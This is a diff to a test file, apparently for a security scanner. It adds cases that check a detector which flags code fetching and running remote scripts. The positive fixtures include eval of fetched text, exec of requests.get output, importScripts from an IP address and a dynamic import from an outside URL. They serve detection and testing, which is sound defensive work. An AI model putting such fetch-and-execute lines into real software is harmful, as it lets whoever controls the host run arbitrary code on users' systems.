@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest'
 import { lostOptions } from './lost-options.ts'
 import { requestReach } from './request-reach.ts'
-import { shippedHarm } from './shipped-scripts.ts'
+import { fetchesCode, shippedHarm } from './shipped-scripts.ts'
 
 describe('new code that a request reaches', () => {
   const found: readonly (readonly [string, code: string])[] = [
@@ -81,4 +81,23 @@ describe('what others run', () => {
     ['/p/scripts/x.sh', 'env | sort > build/env.txt'],
     ['/p/patches/zod+3.patch', '+  if (value === undefined) return'],
   ])('%s: not %s', (path, line) => expect(shippedHarm(path, '', line)).toBeUndefined())
+})
+
+describe('code that runs what a host answers', () => {
+  it.each([
+    'import("https://esm.example-poly.dev/p.mjs").then((m) => m.default())',
+    "importScripts('http://203.0.113.7/w.js')",
+    'eval(await (await fetch(url)).text())',
+    'fetch(url).then((r) => r.text()).then(eval)',
+    'exec(requests.get(url).text)',
+    "eval(URI.open('https://x.example/a.rb').read)",
+  ])('%s', (line) => expect(fetchesCode('', line)).toBeDefined())
+  it.each([
+    'import("https://esm.sh/preact@10")',
+    "const page = await import('./page.js')",
+    'const text = await (await fetch(url)).text()',
+    "db.exec('select 1')",
+  ])('not %s', (line) => expect(fetchesCode('', line)).toBeUndefined())
+  it('was there before', () =>
+    expect(fetchesCode('exec(requests.get(u).text)', 'exec(requests.get(u).text)')).toBeUndefined())
 })
